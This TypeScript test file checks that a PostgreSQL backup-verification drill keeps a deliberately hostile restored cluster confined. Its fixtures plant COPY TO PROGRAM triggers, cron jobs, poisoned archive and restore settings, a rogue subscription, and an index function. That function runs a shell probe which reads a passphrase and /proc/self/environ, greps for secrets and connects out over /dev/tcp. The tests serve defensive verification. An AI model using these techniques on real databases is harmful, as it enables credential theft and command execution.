import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { randomInt } from 'node:crypto'
import { mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:net'
import { dirname, join } from 'node:path'
import test, { type TestContext } from 'node:test'
import { promisify } from 'node:util'
import { quoteSetting } from '../../src/protect/postgres/recovery-settings.ts'
import { isConfined, rehearse, type ChecksInput } from '../services/drilling.ts'
import { skipUnlessInstalled } from '../services/postgres.ts'
import { scratchRootOf } from '../services/proving.ts'
import { protectedCluster, type ProtectedCluster } from '../services/protected-cluster.ts'

// A cluster that is restored is not trusted: nothing that it was told to do happens in a drill, and code that a check has to run (a function in an index)
// finds nothing to read, nowhere to write, and nobody to call.

const OWN: ChecksInput = {
  sql: [{ name: 'patients', query: 'select count(*) from patients', expect: { equals: 500 } }],
}

interface Listener {
  readonly port: number
  /** How often somebody has come. */
  readonly calls: () => number
}

/** On every address of this host. */
async function listener(t: TestContext): Promise<Listener> {
  let calls = 0
  const server = createServer((socket) => {
    calls += 1
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, resolve))
  t.after(() => server.close())
  const address = server.address()
  assert.ok(typeof address === 'object' && address !== null)
  return { port: address.port, calls: () => calls }
}

/** What a program that runs leaves in the data directory, where it surely may. */
const mark = (name: string) => `cat >ran-${name}`

/** What a hostile function finds: what it sees of ours, and whom it reaches. */
function probe(cluster: ProtectedCluster, { port, outside, stray }: { port: number; outside: string; stray: string }): string {
  const home = dirname(cluster.configPath)
  return [
    `cat ${home}/passphrase > ${outside}/key`,
    `for each in ${home}/passphrase ${cluster.configPath} ${cluster.repositoryDirectory}/. /etc/passwd /proc/self/environ; do test -e "$each" && echo "sees $each"; done`,
    `bash -c "echo x > /dev/tcp/127.0.0.1/${port}" && echo connected`,
    `bash -c "echo x > /dev/tcp/$(hostname -I | cut -d" " -f1)/${port}" && echo connected`,
    'env | grep -i "^resus\\|passphrase" && echo environment',
    'cat >/dev/null',
    `(setsid ${stray} >/dev/null 2>&1 &)`,
    'echo ran',
  ].join('; ')
}

/** Settings that act outside, in every place that a cluster has for them; what would start a program leaves a sentinel behind. */
async function poison(cluster: ProtectedCluster, major: number): Promise<void> {
  const hostile: Record<string, string> = {
    archive_mode: 'on',
    archive_command: `${mark('archive')}`,
    archive_cleanup_command: `${mark('cleanup')}`,
    recovery_end_command: `${mark('end')}`,
    restore_command: `${mark('restore')}`,
    shared_preload_libraries: '/nowhere/hostile',
    session_preload_libraries: '/nowhere/hostile',
    local_preload_libraries: 'hostile',
    primary_conninfo: 'host=127.0.0.1',
    listen_addresses: '*',
    log_statement: 'all',
  }
  const lines = Object.entries(hostile).map(([name, value]) => `${name} = '${quoteSetting(value)}'\n`)
  // As ALTER SYSTEM would have left them; the living server has not read them.
  await writeFile(join(cluster.cluster.directory, 'postgresql.auto.conf'), lines.join(''), { flag: 'a' })
  await cluster.query(`alter database postgres set log_statement = 'all'`)
  await cluster.query(`alter role postgres set log_min_duration_statement = 0`)
  // Not where it would keep our backup out: amcheck visits every database.
  await cluster.query('create database other')
  await cluster.query(`alter database other set session_preload_libraries = '/nowhere/hostile'`)
  if (major >= 17) await cluster.query(`alter database postgres set event_triggers = on`)
}

async function plantTriggers(cluster: ProtectedCluster, major: number): Promise<void> {
  await cluster.query(`create function leave() returns event_trigger language plpgsql as
    $$ begin copy (select 1) to program '${mark('trigger')}'; end $$`)
  await cluster.query('create event trigger every on ddl_command_start execute function leave()')
  await cluster.query('alter event trigger every enable always')
  if (major < 17) return
  await cluster.query(`create function greet() returns event_trigger language plpgsql as
    $$ begin if current_setting('application_name') = 'resus verify' then copy (select 1) to program '${mark('login')}'; end if; end $$`)
  await cluster.query('create event trigger greeting on login execute function greet()')
  await cluster.query('alter event trigger greeting enable always')
}

/** It connects to whoever listens as soon as a worker for logical replication runs. */
async function plantSubscription(cluster: ProtectedCluster, port: number): Promise<void> {
  await cluster.query(
    `create subscription calling connection 'host=127.0.0.1 port=${port} user=postgres dbname=postgres' publication p
      with (connect = false, enabled = false, slot_name = 'none')`,
  )
  await cluster.query('update pg_subscription set subenabled = true')
}

/** pg_cron's table, as its worker would find it. */
async function plantJobs(cluster: ProtectedCluster): Promise<void> {
  await cluster.query('create schema cron')
  await cluster.query('create table cron.job (jobid bigint primary key, schedule text, command text, active boolean)')
  await cluster.query(`insert into cron.job values (1, '* * * * *', 'copy (select 1) to program ''${mark('cron')}''', true)`)
}

/** amcheck calls the function of an index for each row of the table. */
async function plantIndex(cluster: ProtectedCluster, program: string): Promise<void> {
  await cluster.query(`create function act() returns void language plpgsql volatile as
    $$ begin copy (select 1) to program '${program.replaceAll("'", "''")}'; end $$`)
  // What is not volatile may not copy, and may call what is.
  await cluster.query(`create function probing(id bigint) returns bigint language plpgsql immutable as $$ begin
      if current_setting('application_name') = 'resus verify' and id = 1 then perform public.act(); end if;
      return id; end $$`)
  await cluster.query('create index probed on patients (probing(id))')
}

for (const major of [18, 15]) {
  const skip = await skipUnlessInstalled(major)

  test(`PostgreSQL ${major}: nothing of a hostile cluster runs, and what has to run reaches nothing`, { skip }, async (t) => {
    await using cluster = await protectedCluster(t, { major, settings: { autovacuum: 'off' } })
    const outside = join(cluster.cluster.home, 'outside')
    await mkdir(outside)
    const { port, calls } = await listener(t)
    const stray = `sleep ${600_000 + randomInt(1_000_000)}`
    await cluster.query('create table patients (id bigint primary key, name text)')
    await cluster.query(`insert into patients select i, 'patient ' || i from generate_series(1, 500) i`)
    await plantIndex(cluster, `( ${probe(cluster, { port, outside, stray })} ) >ran-index 2>/dev/null`)
    await plantJobs(cluster)
    await plantSubscription(cluster, port)
    await poison(cluster, major)
    await plantTriggers(cluster, major)
    // They ran while they were planted.
    for (const name of await marksIn(cluster.cluster.directory)) await rm(join(cluster.cluster.directory, name))
    await cluster.backup()
    const before = calls()

    const scratch = `${scratchRootOf(cluster)}/verify-*`
    const look = `cp ${scratch}/server.log ${outside}/ && for each in ${scratch}/data/ran-*; do test ! -e $each || cp $each ${outside}/; done`
    const { predicate } = await rehearse(cluster, { ...OWN, commands: [{ name: 'look', run: ['/bin/sh', '-c', look] }] })
    t.diagnostic(JSON.stringify(predicate.isolation))
    assert.equal(predicate.verdict, 'verified', predicate.why)
    const left = (await readdir(outside)).toSorted()
    const allowed = process.getuid?.() === 0 || (await allowsNamespaces())
    assert.ok(isConfined(predicate) || !allowed, 'the system allows namespaces')
    assert.deepEqual(
      left.filter((name) => name !== 'key'),
      ['ran-index', 'server.log'],
    )
    // Nothing of what was asked is in the log, whatever ALTER ROLE says.
    assert.doesNotMatch(await readFile(join(outside, 'server.log'), 'utf8'), /statement:|duration:|hostile/)
    const holds = (what: string) => predicate.isolation.find((each) => each.what === what)?.holds
    assert.ok(holds('settings of the cluster not in force'))
    assert.ok(predicate.leftovers.removed, predicate.leftovers.seen)
    assert.ok(!(await commandLines()).includes(stray))
    if (!isConfined(predicate)) {
      t.diagnostic(`this system allows no namespaces: ${predicate.isolation.map(({ why }) => why).join('; ')}`)
      return
    }
    assert.ok(!left.includes('key'))
    assert.equal(calls(), before)
    assert.equal(await readFile(join(outside, 'ran-index'), 'utf8'), 'ran\n')
  })
}

async function marksIn(directory: string): Promise<string[]> {
  return (await readdir(directory)).filter((name) => name.startsWith('ran-'))
}

async function commandLines(): Promise<string[]> {
  const pids = (await readdir('/proc')).filter((name) => /^\d+$/.test(name))
  const texts = await Promise.all(pids.map((pid) => readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '')))
  return texts.map((text) => text.replaceAll('\0', ' ').trim())
}

/** Asked apart from our own code: where it can be had, a drill has to have it. */
async function allowsNamespaces(): Promise<boolean> {
  const words = ['--user', '--map-current-user', '--keep-caps', '--net', '--ipc', '--mount', 'true']
  return await promisify(execFile)('unshare', words).then(
    () => true,
    () => false,
  )
}
